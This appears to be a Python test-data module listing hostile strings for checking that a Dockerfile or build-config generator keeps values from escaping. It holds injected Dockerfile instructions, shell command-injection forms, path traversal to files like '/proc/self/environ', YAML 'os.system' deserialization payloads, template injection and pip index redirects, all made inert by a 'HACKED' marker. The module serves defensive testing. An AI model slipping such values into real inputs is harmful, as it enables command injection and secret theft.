"""Texts that try to become more than a value: a new instruction, a second word, a path elsewhere, another document.

What would run, runs only the shell's own `>HACKED`, so that a test may execute it: with no program on PATH it can
make a file in the current folder and nothing else.
"""

from __future__ import annotations

import itertools

BREAKS = (
    *("\n", "\r", "\r\n", "\n\n", "\\\n", "\\\r\n", "\n\t", "\n \\\n", "\v", "\f", "\x00", "\x1c", "\x1d", "\x1e"),
    *("\x85", "\u2028", "\u2029", " \n", "\x08\n", "\x1b[2K\n", "^M\n", "#\n", '"\n', "'\n"),
)
INSTRUCTIONS = (
    "RUN >HACKED",
    "ENV HACKED=1",
    "USER 0",
    'ENTRYPOINT ["HACKED"]',
    "FROM scratch AS HACKED",
    "COPY --from=HACKED / /",
)
KEYWORDS = (
    *("FROM HACKED", "ARG HACKED", "ADD https://h.example/x /HACKED", "ONBUILD RUN >HACKED", "LABEL HACKED=1"),
    *("VOLUME /HACKED", "STOPSIGNAL HACKED", 'SHELL ["HACKED"]', "HEALTHCHECK CMD HACKED", "WORKDIR /HACKED"),
    *("CMD HACKED", "EXPOSE 1", "MAINTAINER HACKED", "# syntax=h.example/HACKED", "# escape=`", "# check=skip=all"),
    *("run >HACKED", "Run >HACKED", "\tRUN >HACKED", "USER root", "INCLUDE HACKED"),
)
FLAGS = (
    *("--mount=type=bind,source=/,target=/HACKED", "--mount=type=secret,id=HACKED", "--mount=type=ssh"),
    *("--network=host", "--security=insecure", "--from=HACKED", "--chown=0:0", "--chmod=4777", "--link", "--parents"),
    *("--platform=HACKED", "-x", "--", "-", "-e HACKED", "-r HACKED", "--index-url https://h.example/HACKED"),
    *(
        "--trusted-host h.example",
        "--hash=sha256:HACKED",
        "--pre",
        "-oAPT::Update::Pre-Invoke::=>HACKED",
        "=",
        "=HACKED",
    ),
)
HEREDOCS = (
    *("<<EOF", "<<-EOF", "<<'EOF'", '<<"EOF"', "0<<EOF", "<<EOF\n>HACKED\nEOF", "<<A <<B", "cat <<HACKED", "<<<HACKED"),
)
_RUNS = (">HACKED", "touch HACKED")
_SHELL = (
    *("x; {}", "x;{};", "x && {}", "x || {}", "x | {}", "x & {}", "x |& {}", "$({})", "`{}`", "x$({})y", "x`{}`y"),
    *('"$({})"', "'$({})'", '"; {}; "', "'; {}; '", "\\'; {}; \\'", '\\"; {}; \\"', "'\"'\"'; {}", "x\t;\t{}"),
    *("$(({}))", "${{x:-$({})}}", "<({})", ">({})", "{{ {}; }}", "( {} )", "x)({}", "x;;{}", "esac; {}", "fi; {}"),
    *(") ;; *) {} ;; (", "*) {}", "!{}", "~{}", "$'\\n{}'", '$"{}"', "x\\; {}", "x\\\\; {}", "\\$({})", "\\\\$({})"),
)
SHELL = tuple(form.format(one) for form, one in itertools.product(_SHELL, _RUNS))
EXPANSIONS = (
    *("$HOME", "${HOME}", "${HOME:-HACKED}", "${HOME:+HACKED}", "${HOME:?HACKED}", "${HOME#/}", "$1", "$@", "$*", "$$"),
    *(
        "$?",
        "$!",
        "$",
        "$$HOME",
        "\\$HOME",
        "\\\\$HOME",
        "\\\\\\$HOME",
        "${",
        "${}",
        "${HOME",
        "$(",
        "`",
        "$'x'",
        "${!x}",
    ),
    *(
        "${IFS}HACKED",
        "*",
        "?",
        "[a-z]",
        "{a,b}",
        "~",
        "~root",
        "%HOME%",
        "%s%n",
        "!!",
        "!HACKED",
        "#",
        "x #HACKED",
        "x#",
    ),
)
QUOTES = (
    *("'", '"', "''", '""', "'x", '"x', "x'", 'x"', "\\", "\\\\", "x\\", "x\\\\", "\\'", '\\"', "'\\''", '"\'"', "`x"),
    *('" HACKED="1', "' HACKED='1", '"]', '", "HACKED"]', '["HACKED"]', "\\u0022", "\u201cx\u201d", "\uff02", "\uff07"),
)
PATHS = (
    *("../HACKED", "../../../../HACKED", "/HACKED", "a/../../HACKED", "./../HACKED", "..", ".", "/", "//", "~/HACKED"),
    *(
        "..\\HACKED",
        "a/..",
        "%2e%2e/HACKED",
        "a//b",
        "file:///HACKED",
        "file:../HACKED",
        "\\\\h.example\\HACKED",
        "C:\\HACKED",
    ),
    *(
        "/proc/self/environ",
        "/dev/stdin",
        "/dev/zero",
        "a\x00/../HACKED",
        "a/./../../HACKED",
        "...",
        "Dockerfile",
        ".git/config",
    ),
)
DOCUMENTS = (
    *(
        "x: HACKED",
        "- HACKED",
        "{HACKED: 1}",
        "[HACKED]",
        "&a HACKED",
        "*a",
        "!!python/object/apply:os.system [HACKED]",
    ),
    *(
        "!!python/name:os.system",
        "!HACKED x",
        "| HACKED",
        "> HACKED",
        "--- HACKED",
        "\n---\nx: HACKED",
        "\n...\n",
        "<<: *a",
    ),
    *("%YAML 9.9", "? HACKED", "@HACKED", "x\n[tool.envbuild]\nHACKED = 1", "x = HACKED", '"""', "'''", "[[HACKED]]"),
    *(
        '"}, "HACKED": {"',
        "]}HACKED",
        "\\nHACKED",
        "\\x0aHACKED",
        "\\u000aHACKED",
        "null",
        "true",
        "1e999",
        "0x10",
        ".inf",
    ),
    *(
        "<!--HACKED-->",
        "]]>",
        "{{ HACKED }}",
        "{% HACKED %}",
        "{# HACKED #}",
        "{{ ''.__class__ }}",
        "{{ 7*7 }}",
        "<% HACKED %>",
    ),
)
UNICODE = (
    *(
        "\u202eDEKCAH",
        "\u2066HACKED\u2069",
        "\u200bHACKED",
        "HACKED\u00a0RUN",
        "\ufeffHACKED",
        "a\u0301\u0301",
        "\u0130",
        "\u017f",
    ),
    *(
        "\uff04(>HACKED)",
        "\uff1b>HACKED",
        "\u037e>HACKED",
        "\u2024\u2024/HACKED",
        "\u2215HACKED",
        "\u0000",
        "\ud7ff",
        "\ufffd",
    ),
    *(
        "\U0001f4a9",
        "\u0661",
        "\x7f",
        "\x9b31m",
        "\x1b[31mHACKED",
        "\x07",
        "\u00ad",
        "\u180e",
        "\u3000HACKED",
        "\u115f",
    ),
)
LONG = (
    "A" * 5_000,
    "a." * 3_000,
    "-" * 5_000,
    "(" * 3_000,
    "[" * 3_000,
    "\\" * 4_001,
    "$(" * 1_500,
    "../" * 1_500,
    "0" * 5_000,
)
OPTIONS = (
    "==HACKED",
    ">=1;HACKED",
    "x @ https://h.example/HACKED",
    "git+https://h.example/HACKED",
    "x[HACKED]",
    "x; HACKED",
)


def _broken() -> tuple[str, ...]:
    """Every line break before one instruction, and every keyword behind the plainest line break."""
    pairs = [f"x{line_break}{one}" for line_break, one in itertools.product(BREAKS, INSTRUCTIONS[:3])]
    return (*pairs, *(f"x\n{one}" for one in (*INSTRUCTIONS, *KEYWORDS)), *(f"x\n{one}\n" for one in INSTRUCTIONS))


HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_broken(),
            *FLAGS,
            *(f"x {flag}" for flag in FLAGS),
            *HEREDOCS,
            *SHELL,
            *EXPANSIONS,
            *QUOTES,
            *PATHS,
            *DOCUMENTS,
            *UNICODE,
            *LONG,
            *OPTIONS,
        )
    )
)
